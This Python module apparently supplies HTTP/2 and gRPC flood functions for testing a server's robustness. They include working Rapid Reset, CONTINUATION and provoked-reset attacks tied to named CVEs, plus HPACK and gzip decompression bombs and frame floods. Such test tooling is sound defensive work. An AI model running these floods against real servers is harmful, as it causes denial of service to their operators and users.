"""Floods for `robustness_rpc.py`: what a hostile client sends without end, one function each.

A flood takes an open connection, a right call and how much to send; it returns when it has sent that
or the server has closed the connection.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Iterable

from raw_http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PADDED,
    PING,
    PRIORITY,
    RST,
    WINDOW,
    Call,
    Raw,
    call_headers,
    frame,
    integer,
    literal,
    message,
    settings,
)  # fmt: skip

Flood = Callable[[Raw, Call, int], None]
_PIECE = 1 << 17


def _send(raw: Raw, frames: Iterable[bytes]) -> None:
    piece = bytearray()
    for one in frames:
        piece += one
        if len(piece) > _PIECE:
            if not raw.send(bytes(piece)):
                return
            piece.clear()
    raw.send(bytes(piece))


def _open(call: Call, count: int) -> list[bytes]:
    """Calls whose message does not come."""
    return [call.frames(stream)[0] for stream in range(1, 2 * count, 2)]


def settings_frames(raw: Raw, _call: Call, count: int) -> None:
    _send(raw, (settings() for _ in range(count)))


def windows_of_open_calls(raw: Raw, call: Call, count: int) -> None:
    """Every one is a change to each open stream."""
    _send(raw, _open(call, 1000))
    _send(raw, (settings((4, 65535 - n % 2)) for n in range(count)))


def pings(raw: Raw, _call: Call, count: int) -> None:
    _send(raw, (frame(PING, 0, 0, b"12345678") for _ in range(count)))


def resets(raw: Raw, call: Call, count: int) -> None:
    """CVE-2023-44487: whole calls, each reset at once."""

    def frames() -> Iterable[bytes]:
        for stream in range(1, 2 * count, 2):
            yield from call.frames(stream)
            yield frame(RST, 0, stream, b"\0\0\0\x08")

    _send(raw, frames())


def resets_provoked(raw: Raw, call: Call, count: int) -> None:
    """CVE-2025-8671: the server is made to reset, by a window that grows by nothing."""

    def frames() -> Iterable[bytes]:
        for stream in range(1, 2 * count, 2):
            yield call.frames(stream)[0]
            yield frame(WINDOW, 0, stream, bytes(4))

    _send(raw, frames())


def continuations(raw: Raw, call: Call, count: int) -> None:
    """CVE-2024-27316: headers without end."""
    raw.send(frame(HEADERS, 0, 1, literal(call_headers(call.path))))
    _send(raw, (frame(CONTINUATION, 0, 1, literal([(b"a", b"b" * 50)])) for _ in range(count)))


def empty_continuations(raw: Raw, call: Call, count: int) -> None:
    raw.send(frame(HEADERS, 0, 1, literal(call_headers(call.path))))
    _send(raw, (frame(CONTINUATION, 0, 1) for _ in range(count)))


def empty_data(raw: Raw, call: Call, count: int) -> None:
    _send(raw, _open(call, 1))
    _send(raw, (frame(DATA, PADDED, 1, b"\0") for _ in range(count)))


def priorities(raw: Raw, _call: Call, count: int) -> None:
    _send(raw, (frame(PRIORITY, 0, 2 * n + 1, b"\0\0\0\0\x10") for n in range(count)))


def window_updates(raw: Raw, call: Call, count: int) -> None:
    _send(raw, _open(call, 1))
    _send(raw, (frame(WINDOW, 0, 1, b"\0\0\0\1") for _ in range(count)))


def hpack_bomb(raw: Raw, call: Call, count: int) -> None:
    """A kilobyte that stands for megabytes: a large entry of the table, named again and again."""
    block = literal(call_headers(call.path)) + literal([(b"a", b"b" * 4000)], 0x40)
    raw.send(frame(HEADERS, END_HEADERS, 1, block))
    bomb = literal(call_headers(call.path)) + integer(62, 7, 0x80) * 16_000
    _send(raw, (frame(HEADERS, END_HEADERS, 2 * n + 3, bomb) for n in range(count // 100)))


def headers_too_many(raw: Raw, call: Call, count: int) -> None:
    block = literal(call_headers(call.path, *[(b"k", b"v" * 100)] * 150))
    _send(raw, (frame(HEADERS, END_HEADERS, 2 * n + 1, block) for n in range(count // 100)))


def no_window(raw: Raw, call: Call, count: int) -> None:
    """Answers that may not be sent: they must not pile up."""
    raw.send(settings((4, 0)))
    large = Call(call.path, call.body if call.path != b"/t.S/Echo" else b"x" * 100_000)
    _send(raw, (b"".join(large.frames(2 * n + 1)) for n in range(count // 20)))


def one_byte_each(raw: Raw, call: Call, count: int) -> None:
    """A message in pieces of one byte, each in a frame of its own."""
    raw.send(call.frames(1)[0] + frame(DATA, 0, 1, b"\0\0\xff\xff\xff"))
    _send(raw, (frame(DATA, 0, 1, b"x") for _ in range(10 * count)))


def inflating(raw: Raw, call: Call, count: int) -> None:
    """Messages of 256 KiB that grow to 256 MiB."""
    packer = zlib.compressobj(9, wbits=31)
    data = message(packer.compress(bytes(256 << 20)) + packer.flush(), 1)
    block = literal(call_headers(call.path, (b"grpc-encoding", b"gzip")))
    pieces = [data[at : at + 16384] for at in range(0, len(data), 16384)]
    for stream in range(1, 2 * max(count // 10_000, 2), 2):
        frames = [frame(DATA, 0, stream, piece) for piece in pieces]
        _send(raw, [frame(HEADERS, END_HEADERS, stream, block), *frames])
        raw.send(frame(DATA, END_STREAM, stream))


def too_large(raw: Raw, call: Call, count: int) -> None:
    """Messages that announce 2 GiB and more."""

    def frames() -> Iterable[bytes]:
        for stream in range(1, 2 * (count // 20), 2):
            yield call.frames(stream)[0]
            yield frame(DATA, 0, stream, b"\0" + struct.pack(">I", 2**31 + stream))

    _send(raw, frames())


FLOODS: list[Flood] = [
    settings_frames, windows_of_open_calls, pings, resets, resets_provoked, continuations,
    empty_continuations, empty_data, priorities, window_updates, hpack_bomb, headers_too_many,
    no_window, one_byte_each, inflating, too_large,
]  # fmt: skip
